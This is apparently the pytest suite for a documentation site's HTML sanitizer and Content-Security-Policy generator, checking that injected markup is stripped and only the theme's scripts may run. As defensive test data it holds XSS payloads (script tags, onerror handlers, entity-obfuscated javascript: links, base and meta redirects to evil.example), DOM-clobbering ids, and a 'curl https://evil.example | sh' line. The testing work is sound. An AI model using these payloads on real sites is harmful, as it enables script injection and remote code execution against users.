"""The site's second and third lines of defence: the sanitizer every page's HTML goes through
(scripts/src/jax_kb/site/sanitize.py) and the Content-Security-Policy of every page (scripts/src/jax_kb/site/csp.py)."""
from __future__ import annotations

import base64
import hashlib
from html.parser import HTMLParser
from pathlib import Path

import markdown
import pytest
from mkdocs.config import load_config

from jax_kb.site import csp, sanitize

ROOT = Path(__file__).resolve().parents[1]

PAYLOADS = {
    "script": "<script>alert(1)</script>",
    "event attribute": '<img src="x.png" alt="x" onerror="alert(1)">',
    "base": '<base href="https://evil.example/">',
    "meta refresh": '<meta http-equiv="refresh" content="0; url=https://evil.example/">',
    "style": "<style>body { background: url(https://evil.example/x.png) }</style>",
    "link": '<link rel="stylesheet" href="https://evil.example/x.css">',
    "form": '<form action="https://evil.example/"><button formaction="javascript:alert(1)">go</button></form>',
    "svg xlink": '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "hex entity": '<a href="jav&#x61;script:alert(1)">x</a>',
    "named entity": '<a href="javascript&colon;alert(1)">x</a>',
    "vbscript": '<a href="vbscript:msgbox(1)">x</a>',
    "iframe": '<iframe src="https://evil.example/"></iframe>',
    "foreign image": '<img src="https://evil.example/pixel.png" alt="x">',
    "style attribute": '<div style="background: url(https://evil.example/x.png)">x</div>',
    "early comment": '<!--> <img src="x.png" alt="x" onerror="alert(1)"> -->',
}
DANGEROUS = ("<script", "onerror", "<base", "<meta", "<style", "<link", "<form", "formaction", "xlink", "javascript",
             "vbscript", "<iframe", "evil.example")


@pytest.mark.parametrize("payload", PAYLOADS.values(), ids=PAYLOADS.keys())
def test_the_sanitizer_leaves_nothing_that_runs_loads_or_redirects(payload):
    cleaned = sanitize.page_html(f"<p>before</p>{payload}<p>after</p>")
    assert not [word for word in DANGEROUS if word in cleaned.lower()], cleaned
    assert cleaned.startswith("<p>before</p>") and cleaned.endswith("<p>after</p>")


EVERY_EXTENSION = """# Title { #title }

=== "One"

    A :material-check: tab with `code`, ++ctrl+c++ and a footnote[^1].

=== "Two"

    ```python linenums="1" hl_lines="1"
    print("x")
    ```

!!! note "A note"
    The JIT text.

??? tip "Details"
    Hidden.

| a | b |
|:-:|--:|
| 1 | 2 |

Term
:   Definition

*[JIT]: Just in time

[^1]: A note.
"""


class _Structure(HTMLParser):
    """Tags, attributes and text, as a browser reads them (style spacing and an implied <tbody> aside)."""

    def __init__(self, html: str):
        super().__init__(convert_charrefs=True)
        self.items: list = []
        self.feed(html)

    def handle_starttag(self, tag, attrs):
        if tag != "tbody":
            self.items.append((tag, sorted((k, (v or "").replace(" ", "").rstrip(";") if k == "style" else v or "")
                                           for k, v in attrs)))

    def handle_data(self, data):
        if data.strip():
            self.items.append(data.strip())


def test_the_sanitizer_changes_nothing_the_site_s_own_extensions_generate():
    config = load_config(str(ROOT / "mkdocs.yml"))
    rendered = markdown.Markdown(extensions=config.markdown_extensions,
                                 extension_configs=config.mdx_configs).convert(EVERY_EXTENSION)
    assert {"input", "label", "svg", "abbr", "details", "kbd", "sup", "table"} <= {
        item[0] for item in _Structure(rendered).items if isinstance(item, tuple)}
    cleaned = _Structure(sanitize.page_html(rendered)).items
    links = [item for item in cleaned if isinstance(item, tuple) and item[0] == "a"]
    assert links and all(("rel", "noopener noreferrer") in attributes for _, attributes in links)
    assert [(item[0], [a for a in item[1] if a != ("rel", "noopener noreferrer")]) if isinstance(item, tuple) else item
            for item in cleaned] == _Structure(rendered).items


def test_the_sanitizer_keeps_the_hooks_markers():
    marked = '<div class="kb-start" data-kb-start="">x</div><div class="highlight" data-raises="ValueError">y</div>'
    assert sanitize.page_html(marked) == marked


def test_the_sanitizer_keeps_the_generated_sections_marker():
    assert sanitize.page_html("<p>a</p><!-- generated sections --><p>b</p>") == (
        "<p>a</p><!-- generated sections --><p>b</p>")


def test_toc_titles_become_text():
    class Item:
        def __init__(self, title, children=()):
            self.title, self.children = title, list(children)

    toc = [Item("A <img src=x onerror=alert(1)> b", [Item("<script>alert(1)</script>c &lt;d&gt;")])]
    sanitize.toc_titles(toc)
    assert (toc[0].title, toc[0].children[0].title) == ("A  b", "c &lt;d&gt;")


def _theme_script(name: str, url: str = "") -> str:
    """The inline script of one of Material's partials/javascripts/ templates, as rendered."""
    template = (csp.THEME_SCRIPTS / name).read_text(encoding="utf-8")
    body = template[template.index("<script>") + len("<script>"):template.index("</script>")]
    return csp.JINJA.sub(url, body)


PALETTE, SCOPE = _theme_script("palette.html"), _theme_script("base.html", "../..")
PAGE = f"""<!doctype html><html><head><meta charset="utf-8"><script>{SCOPE}</script>
<script src="assets/bundle.js"></script><title>x</title></head><body><script>{PALETTE}</script>
<script id="__config" type="application/json">{{"a": 1}}</script><script>alert(1)</script>
<script>{SCOPE.replace("../..", '../.."+alert(1)+"')}</script><script>{PALETTE}</script></body></html>"""


def _sha(body: str) -> str:
    return "'sha256-" + base64.b64encode(hashlib.sha256(body.encode()).digest()).decode() + "'"


def test_the_policy_allows_exactly_the_theme_s_own_inline_scripts():
    policy = csp.policy(PAGE)
    script_src = next(d for d in policy.split("; ") if d.startswith("script-src"))
    assert script_src == f"script-src 'self' {_sha(SCOPE)} {_sha(PALETTE)}"
    for directive in ("default-src 'self'", "img-src 'self' data:", "connect-src 'self'", "base-uri 'none'",
                      "object-src 'none'", "frame-src 'none'", "form-action 'self'"):
        assert directive in policy


THEME = csp.Theme(overrides=ROOT / "overrides", dirs=(str(ROOT / "overrides"), str(csp.THEME_SCRIPTS.parents[1])),
                  site_path="/jax-kb/")
BUNDLE = next(csp.THEME_SCRIPTS.parents[1].glob("assets/javascripts/bundle.*.min.js")).name
WORKER = next(csp.THEME_SCRIPTS.parents[1].glob("assets/javascripts/workers/search.*.min.js")).name
SCRIPT_FILES = f"""<html><head></head><body>
<script src="../../assets/javascripts/{BUNDLE}"></script><script src="../../assets/javascripts/kb.js"></script>
<script src="../../assets/evil.js"></script><script src="https://evil.example/x.js"></script>
<script src="../../../../assets/javascripts/kb.js"></script><script src="../../assets/javascripts/../../x/kb.js"></script>
<script id="__config" type="application/json">{{"base": "../..", "search": "../../assets/javascripts/workers/{WORKER}"}}
</script></body></html>"""


def test_the_policy_is_the_first_thing_in_head():
    page = csp.with_policy(PAGE, "/jax-kb/glossary/vmap/", THEME)
    assert page.startswith('<!doctype html><html><head>\n    <meta http-equiv="Content-Security-Policy" content="'
                           "default-src 'self'; script-src 'self' ")
    assert page.count('http-equiv="Content-Security-Policy"') == 2


def test_the_second_policy_allows_the_theme_s_script_files_by_exact_path_and_nothing_else():
    """What the page loads from the theme (Material's bundle and search worker, the project's kb.js) runs;
    a file beside them, on another host or outside the site's path does not."""
    policy = csp.script_policy(SCRIPT_FILES, "/jax-kb/glossary/vmap/", THEME)
    assert policy == ("script-src *:*/jax-kb/assets/javascripts/" + BUNDLE + " *:*/jax-kb/assets/javascripts/kb.js "
                      "*:*/jax-kb/assets/javascripts/workers/" + WORKER)


def test_the_site_s_search_worker_is_allowed_by_its_path_whatever_its_query():
    page = SCRIPT_FILES.replace(f"workers/{WORKER}", f"workers/kb-search.js?material={WORKER}")
    assert csp.script_policy(page, "/jax-kb/glossary/vmap/", THEME).endswith(
        " *:*/jax-kb/assets/javascripts/workers/kb-search.js")


def test_the_second_policy_names_the_theme_s_files_from_a_language_s_pages_and_the_404_page():
    page = SCRIPT_FILES.replace("../../", "/jax-kb/")
    assert csp.script_policy(page, "/jax-kb/ru/404.html", THEME) == csp.script_policy(
        SCRIPT_FILES.replace("../../", "../../../"), "/jax-kb/ru/glossary/vmap/", THEME)


def test_the_second_policy_allows_no_script_at_all_on_a_page_without_the_theme_s():
    assert csp.script_policy("<html><head></head><body><script>alert(1)</script></body></html>", "/jax-kb/",
                             THEME) == "script-src 'none'"


def test_title_attributes_hold_html_text_for_materials_tooltips():
    # Material's tooltip inserts the title as HTML: the browser must read "&lt;img ...&gt;" from it.
    cleaned = sanitize.page_html('<abbr title="&lt;img src=x onerror=alert(1)&gt; &amp; it\'s">x</abbr>')
    assert cleaned == "<abbr title=\"&amp;lt;img src=x onerror=alert(1)&amp;gt; &amp;amp; it's\">x</abbr>"


def test_a_template_script_matches_what_its_expressions_rendered_and_nothing_else():
    pattern = csp._pattern('\n  go({{ home | tojson }}, "{{- base_url }}/x");\n')
    assert pattern.fullmatch('go("/jax-kb/", "../..' + '/x");')  # white space taken by Jinja's {{- -}}
    assert pattern.fullmatch('\n  go(["es", "ru"], "/x");\n')
    assert not pattern.fullmatch('\n  go("/", "../.."+alert(1)+"/x");\n')
    assert not pattern.fullmatch('\n  go("</script><script>alert(1)", "/x");\n')


CLOBBERING = {
    "config": '<div id="__config">{"search": "evil.js"}</div>',
    "code copy target": '<pre id="__code_0"><code>curl https://evil.example | sh</code></pre>',
    "drawer toggle": '<input type="checkbox" id="__drawer">',
    "palette name": '<input type="radio" name="__palette">',
    "tab id of another shape": '<input type="radio" id="__tabbed_x">',
    "line anchor on another tag": '<div id="__codelineno-0-1">x</div>',
    "spaced": '<p id=" __search ">x</p>',
    "site id": '<h2 id="related">Related</h2>',
    "site letter id": '<h2 id="letter-a">A</h2>',
}


@pytest.mark.parametrize("payload", CLOBBERING.values(), ids=CLOBBERING.keys())
def test_the_page_s_own_html_keeps_no_id_or_name_of_the_theme_or_the_site(payload):
    cleaned = sanitize.page_html(f"{payload}\n<!-- generated sections -->\n")
    assert not [a for a in _Structure(cleaned).items if isinstance(a, tuple) for name, _ in a[1] if name in ("id", "name")]


def test_the_generated_sections_keep_the_site_s_ids_but_not_the_theme_s():
    html = ('<h2 id="related">r</h2>\n<!-- generated sections -->\n<h2 id="related">Related</h2>'
            '<h2 id="letter-a">A</h2><div id="__config">x</div>')
    assert sanitize.page_html(html) == ('<h2>r</h2>\n<!-- generated sections -->\n<h2 id="related">Related</h2>'
                                        '<h2 id="letter-a">A</h2><div>x</div>')


def test_a_marker_the_page_writes_itself_does_not_make_its_html_generated():
    html = '<!-- generated sections --><h2 id="related">mine</h2>\n<!-- generated sections -->\n<p>x</p>'
    assert 'id="related"' not in sanitize.page_html(html)


def test_every_link_gets_noopener_noreferrer_and_rel_opener_does_not_survive():
    cleaned = sanitize.page_html('<a href="https://example.com/" target="_blank" rel="opener">x</a>'
                                 '<a href="../page/" target="_blank" rel="opener nofollow">y</a>')
    assert cleaned == ('<a href="https://example.com/" target="_blank" rel="noopener noreferrer">x</a>'
                       '<a href="../page/" target="_blank" rel="noopener noreferrer">y</a>')
